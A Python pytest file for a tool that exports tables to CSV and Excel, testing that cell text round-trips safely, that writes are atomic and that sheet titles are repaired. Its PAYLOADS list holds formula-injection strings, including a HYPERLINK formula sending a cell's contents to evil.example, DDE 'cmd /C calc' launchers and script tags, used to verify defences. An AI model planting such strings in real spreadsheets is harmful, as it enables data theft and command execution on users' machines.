"""Files out: nothing in them runs, every text comes back as it was, and the same tables make the same bytes."""

from __future__ import annotations

import csv
import datetime
import io
import os
import stat
import time
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kaiyi_opt.errors import KaiyiError
from kaiyi_opt.language import Text
from kaiyi_opt.scenario.raw_table import tidy
from kaiyi_opt.scenario.sources import RawTable, read_source
from kaiyi_opt.scenario.writing import (
    CellValue,
    Column,
    ColumnKind,
    Sheet,
    display_width,
    sheet_titles,
    write_atomically,
    write_csv,
    write_workbook,
)

SHEET_XML = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "{=1+1}",
    "http://evil.example",
    "mailto:evil@example.com",
    "internal:Sheet1!A1",
    "<r><t>x</t></r>",
    "<r><t/></r></si></sst><script>alert(1)</script><r></r>",
    "<script>alert(1)</script>",
    "]]>&amp;\"'",
    "001",
    "1e5",
    "TRUE",
    "NA",
)
SETTINGS = Sheet("设置", (Column("键"), Column("值")), [("title", "一轮")])


def one_sheet(path: Path, columns: tuple[Column, ...], *rows: tuple[CellValue, ...]) -> Path:
    write_workbook(path, [SETTINGS, Sheet("申请", columns, rows)])
    return path


def table_of(path: Path) -> RawTable:
    (table,) = read_source(path).tables
    return table


def folder(path: Path, header: tuple[str, ...], rows: list[tuple[CellValue, ...]]) -> Path:
    path.mkdir(exist_ok=True)
    (path / "scenario.toml").write_text("")
    write_csv(path / "申请.csv", header, rows)
    return path


# CSV


def test_a_csv_file_is_what_spreadsheets_write_themselves(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    write_csv(
        path,
        ("编号", "值"),
        [
            ("001", 5),
            ("a,b", -5),
            ('"x"', Decimal("1E+2")),
            ("n", None),
            ("t", True),
            ("f", False),
            ("d", datetime.date(2026, 3, 1)),
            ("x", 0.5),
        ],
    )
    assert path.read_bytes() == (
        b"\xef\xbb\xbf"
        + '编号,值\r\n001,5\r\n"a,b",-5\r\n"""x""",100\r\nn,\r\nt,TRUE\r\nf,FALSE\r\nd,2026-03-01\r\nx,0.5\r\n'.encode()
    )


def test_no_payload_stands_bare_in_a_csv_file(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    write_csv(path, PAYLOADS, [PAYLOADS])
    with path.open(encoding="utf-8-sig", newline="") as stream:
        header, row = csv.reader(stream)
    assert header == row
    assert len(row) == len(PAYLOADS)
    for cell in row:
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
        assert not cell.startswith(("\t", "\r", "\n"))


def test_every_payload_comes_back_from_a_csv_file(tmp_path: Path) -> None:
    path = folder(tmp_path / "round", ("编号", "名称"), [(f"P{number}", text) for number, text in enumerate(PAYLOADS)])
    assert [row.cells[1] for row in table_of(path).rows] == [tidy(text) for text in PAYLOADS]


hostile = st.text(max_size=15) | st.text(st.sampled_from("=＝+-@'\"\t\r\n,;<r>/_x0A&凯 "), max_size=15)


def survives(text: str) -> bool:
    """Tell whether a text holds no error value, no control character and nothing that workbooks write as an escape."""
    return (
        not text.strip().startswith("#")
        and "_x" not in text
        and all(character >= " " or character in "\t\r\n" for character in text)
    )


@given(st.lists(st.tuples(hostile, hostile).filter(lambda row: all(map(survives, row))), max_size=6))
def test_hostile_texts_survive_a_csv_file(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, str]]
) -> None:
    path = folder(tmp_path_factory.getbasetemp() / "csv", ("a", "b", "c"), [(*row, "x") for row in rows])
    wanted = [tuple(tidy(without_noncharacters(cell)) for cell in row) for row in rows]
    assert [row.cells[:2] for row in table_of(path).rows] == wanted


def without_noncharacters(text: str) -> str:
    return text.replace("\ufffe", "�").replace("\uffff", "�")


@given(st.lists(st.tuples(hostile, hostile).filter(lambda row: all(map(survives, row))), max_size=6))
def test_hostile_texts_survive_a_workbook(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, str]]
) -> None:
    columns = (Column("a"), Column("b"), Column("c"))
    path = one_sheet(tmp_path_factory.getbasetemp() / "round.xlsx", columns, *((*row, "x") for row in rows))
    wanted = [
        tuple(tidy(without_noncharacters(cell).replace("\r\n", "\n").replace("\r", "\n")) for cell in row)
        for row in rows
    ]
    assert [row.cells[:2] for row in table_of(path).rows] == wanted


def test_what_no_file_can_carry_is_replaced_and_not_fatal(tmp_path: Path) -> None:
    text = "a\x00b\x1bc\ud800d\uffff"
    path = folder(tmp_path / "round", ("编号", "名称"), [("1", text)])
    assert table_of(path).rows[0].cells[1] == "a�b�c�d�"
    book = one_sheet(tmp_path / "round.xlsx", (Column("编号"), Column("名称", note=text)), ("1", text))
    assert table_of(book).rows[0].cells[1] == "a�b�c�d�"


# workbooks


def cell_elements(path: Path) -> list[ElementTree.Element]:
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        return [cell for name in sheets for cell in ElementTree.fromstring(archive.read(name)).iter(f"{SHEET_XML}c")]


def test_no_payload_becomes_a_formula_or_a_link_in_a_workbook(tmp_path: Path) -> None:
    columns = tuple(Column(text, note=text, choices=PAYLOADS) for text in PAYLOADS)
    path = one_sheet(tmp_path / "a.xlsx", columns, PAYLOADS, PAYLOADS)
    cells = cell_elements(path)
    assert {cell.get("t") for cell in cells} == {"s"}
    assert not any(cell.find(f"{SHEET_XML}f") is not None for cell in cells)
    with zipfile.ZipFile(path) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    assert not any(b"<hyperlink" in content or b"<script" in content for content in contents.values())
    for name, content in contents.items():
        if name.endswith((".xml", ".rels", ".vml")):
            ElementTree.fromstring(content)


@pytest.mark.parametrize("kind", ["text", "money", "number", "date"])
def test_every_payload_comes_back_from_a_column_of_any_kind(tmp_path: Path, kind: ColumnKind) -> None:
    columns = (Column("编号"), Column("名称", kind))
    path = one_sheet(tmp_path / "a.xlsx", columns, *((f"P{number}", text) for number, text in enumerate(PAYLOADS)))
    wanted = [tidy(text.replace("\r", "\n")) for text in PAYLOADS]
    assert [row.cells[1] for row in table_of(path).rows] == wanted


def test_values_are_numbers_and_days_where_their_column_says_so(tmp_path: Path) -> None:
    columns = (Column("a"), Column("b", "money"), Column("c", "number"), Column("d", "date"))
    path = one_sheet(
        tmp_path / "a.xlsx",
        columns,
        ("001", 1_234_560, Decimal("0.08"), datetime.date(2026, 3, 1)),
        (7, 0, -5, datetime.date(1900, 1, 1)),
        (None, None, None, None),
        (True, -50, 1.5, "尚未成立"),
        (Decimal("1.50"), 10**15, 330102199003071234, None),
        ("x", None, float("nan"), None),
    )
    page = openpyxl.load_workbook(path)["申请"]
    values = [[cell.value for cell in row] for row in page.iter_rows(min_row=2)]
    assert values == [
        ["001", 12345.6, 0.08, datetime.datetime(2026, 3, 1)],
        ["7", 0, -5, "1900-01-01"],
        [None, None, None, None],
        ["TRUE", -0.5, 1.5, "尚未成立"],
        ["1.50", 10_000_000_000_000, "330102199003071234", None],
        ["x", None, "nan", None],
    ]
    assert page["B2"].number_format == "#,##0.00"
    assert page["D2"].number_format == "yyyy-mm-dd"
    assert page["A2"].number_format == "@"
    assert [row.cells for row in table_of(path).rows][:2] == [
        ("001", "12345.6", "0.08", "2026-03-01"),
        ("7", "0", "-5", "1900-01-01"),
    ]


@given(st.integers(0, 10**15 - 1))
def test_every_amount_survives_a_money_column(tmp_path_factory: pytest.TempPathFactory, fen: int) -> None:
    path = one_sheet(tmp_path_factory.getbasetemp() / "money.xlsx", (Column("a"), Column("b", "money")), ("1", fen))
    text = table_of(path).rows[0].cells[1]
    assert Decimal(text) * 100 == fen


@pytest.mark.parametrize("value", [Decimal("12.5"), 12.5])
def test_a_money_column_holds_fen_and_nothing_else(tmp_path: Path, value: Decimal | float) -> None:
    with pytest.raises(ValueError, match="a money column holds whole fen, not"):
        one_sheet(tmp_path / "a.xlsx", (Column("a", "money"),), (value,))
    assert list(tmp_path.iterdir()) == []


def test_a_ragged_row_and_an_endless_text_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"sheet '申请': 2 cells in a row of 1 columns"):
        one_sheet(tmp_path / "a.xlsx", (Column("a"),), ("1", "2"))
    with pytest.raises(ValueError, match="a cell holds at most 32767 characters, not 32768"):
        one_sheet(tmp_path / "a.xlsx", (Column("a"),), ("x" * 32_768,))


def test_the_header_stays_in_sight_and_columns_are_as_wide_as_their_content(tmp_path: Path) -> None:
    columns = (Column("编号"), Column("名称"), Column("金额", "money"), Column("x" * 200), Column("备注", width=33))
    path = one_sheet(tmp_path / "a.xlsx", columns, ("1", "景新书画苑公益课堂", 123_456_700, None, None))
    page = openpyxl.load_workbook(path)["申请"]
    assert page.freeze_panes == "A2"
    widths = [page.column_dimensions[letter].width for letter in "ABCDE"]
    assert [round(width - 0.71, 2) for width in widths] == [8, 20, 14, 60, 33]


@pytest.mark.parametrize(("text", "width"), [("", 0), ("abc", 3), ("凯益荟", 6), ("Ａ", 2), ("“a”", 3), ("ｱ", 1)])
def test_chinese_characters_are_twice_as_wide(text: str, width: int) -> None:
    assert display_width(text) == width


def test_notes_and_choices_stand_where_a_planner_needs_them(tmp_path: Path) -> None:
    long_list = tuple(f"社区，{number}" for number in range(200))
    columns = (Column("状态", note="备案或登记", choices=("备案", "登记")), Column("社区", choices=long_list))
    path = one_sheet(tmp_path / "a.xlsx", columns, ("备案", "社区，7"))
    written = openpyxl.load_workbook(path)
    page = written["申请"]
    assert page["A1"].comment.text == "备案或登记"
    rules = {str(rule.sqref): rule for rule in page.data_validations.dataValidation}
    assert {cells: rule.formula1 for cells, rule in rules.items()} == {
        "A2:A1048576": "'_choices'!$A$2:$A$3",
        "B2:B1048576": "'_choices'!$B$2:$B$201",
    }
    assert {rule.errorStyle for rule in rules.values()} == {"warning"}
    lists = written["_choices"]
    assert lists.sheet_state == "hidden"
    assert [lists["A1"].value, lists["A2"].value, lists["A3"].value, lists["B201"].value] == [
        "状态",
        "备案",
        "登记",
        "社区，199",
    ]
    assert table_of(path).rows[0].cells == ("备案", "社区，7")


def test_sheet_titles_are_mended_as_spreadsheets_demand(tmp_path: Path) -> None:
    stated = [
        "a/b",
        "A:b",
        "'申请'",
        "[x]*?\\",
        "",
        "History",
        "_choices",
        "荟" * 40,
        "荟" * 31,
        "😀" * 20,
        "a\x00b\nc",
        "x" * 30 + "'y",
    ]
    titles = sheet_titles(stated)
    assert titles == [
        "a_b",
        "A_b (2)",
        "申请",
        "_x____",
        "Sheet",
        "History (2)",
        "_choices (2)",
        "荟" * 31,
        "荟" * 27 + " (2)",
        "😀" * 15,
        "a_b c",
        "x" * 30,
    ]
    path = tmp_path / "a.xlsx"
    write_workbook(path, [Sheet(title, (Column("a"),), [("1",)]) for title in stated])
    assert openpyxl.load_workbook(path).sheetnames == titles


@given(st.lists(st.text(max_size=40), max_size=5))
def test_any_title_is_mended_into_one_that_is_allowed(stated: list[str]) -> None:
    titles = sheet_titles(stated)
    assert len({title.casefold() for title in titles}) == len(stated)
    for title in titles:
        assert 1 <= len(title.encode("utf-16-le")) // 2 <= 31
        assert not set(title) & set("[]:*?/\\")
        assert not title.startswith("'")
        assert not title.endswith("'")


# bytes and disks


def test_the_same_tables_make_the_same_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    columns = (Column("编号", note="说明", choices=("1", "2")), Column("金额", "money"), Column("日", "date"))
    rows = [("1", 500, datetime.date(2026, 3, 1)), ("<r>x</r>", None, None)]
    first, second = tmp_path / "first", tmp_path / "second"
    for path, zone in ((first, "UTC"), (second, "Asia/Shanghai")):
        path.mkdir()
        monkeypatch.setenv("TZ", zone)
        time.tzset()
        write_csv(path / "a.csv", ("编号", "金额", "日"), rows)
        write_workbook(path / "a.xlsx", [SETTINGS, Sheet("申请", columns, rows)])
    for name in ("a.csv", "a.xlsx"):
        assert (first / name).read_bytes() == (second / name).read_bytes()
    with zipfile.ZipFile(first / "a.xlsx") as archive:
        assert {member.date_time for member in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b">2014-01-01T00:00:00Z<" in archive.read("docProps/core.xml")


def test_a_file_is_replaced_whole_and_leaves_no_neighbour(tmp_path: Path) -> None:
    path = tmp_path / "a.bin"
    write_atomically(path, b"old")
    write_atomically(path, b"new")
    assert path.read_bytes() == b"new"
    assert list(tmp_path.iterdir()) == [path]
    usual = tmp_path / "usual"
    usual.write_bytes(b"")
    assert stat.S_IMODE(path.stat().st_mode) == stat.S_IMODE(usual.stat().st_mode)


def failing(error: OSError) -> object:
    def fail(*_: object) -> None:
        raise error

    return fail


@pytest.mark.parametrize("step", ["fsync", "replace"])
def test_a_failure_midway_leaves_the_old_file_and_no_neighbour(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    path = tmp_path / "a.bin"
    path.write_bytes(b"old")
    monkeypatch.setattr(os, step, failing(OSError(28, "No space left on device")))
    with pytest.raises(KaiyiError) as caught:
        write_atomically(path, b"new")
    assert [fault.text() for fault in caught.value.faults] == [
        Text(
            f"{path}：写不进去（No space left on device）。请检查磁盘空间和路径，或换一个位置。",
            f"{path}: it cannot be written (No space left on device). "
            "check the disk and the path, or choose another place.",
        )
    ]
    assert path.read_bytes() == b"old"
    assert list(tmp_path.iterdir()) == [path]


def test_a_missing_folder_and_an_open_file_are_said_plainly(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "nowhere" / "a.csv"
    with pytest.raises(KaiyiError) as caught:
        write_csv(path, ("a",), [])
    assert caught.value.faults[0].text() == Text(
        f"{path}：文件夹不存在。请先建好文件夹。", f"{path}: the folder does not exist. make the folder first."
    )
    path = tmp_path / "a.xlsx"
    monkeypatch.setattr(os, "replace", failing(PermissionError(13, "Permission denied")))
    with pytest.raises(KaiyiError) as caught:
        one_sheet(path, (Column("a"),))
    assert caught.value.faults[0].text() == Text(
        f"{path}：写不进去：没有权限，或文件正被打开。请关闭打开它的程序，或换一个位置。",
        f"{path}: it cannot be written: no permission, or the file is open. "
        "close the program that has it open, or choose another place.",
    )


def test_a_workbook_without_rows_is_a_template(tmp_path: Path) -> None:
    path = one_sheet(tmp_path / "a.xlsx", (Column("编号"), Column("名称")))
    assert table_of(path) == RawTable("申请", "a.xlsx", "申请", ("编号", "名称"), ())
    assert io.BytesIO(path.read_bytes()).read(2) == b"PK"
